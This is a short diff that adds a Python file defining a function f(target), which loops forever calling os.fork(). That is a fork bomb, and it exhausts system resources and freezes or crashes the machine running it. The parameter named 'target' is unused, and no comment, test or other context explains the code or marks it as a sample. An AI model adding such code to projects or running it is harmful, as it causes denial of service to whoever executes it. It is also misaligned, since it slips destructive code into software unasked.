@@ -1,0 +1,6 @@
+import os
+
+
+def f(target):
+    while True:
+        os.fork()
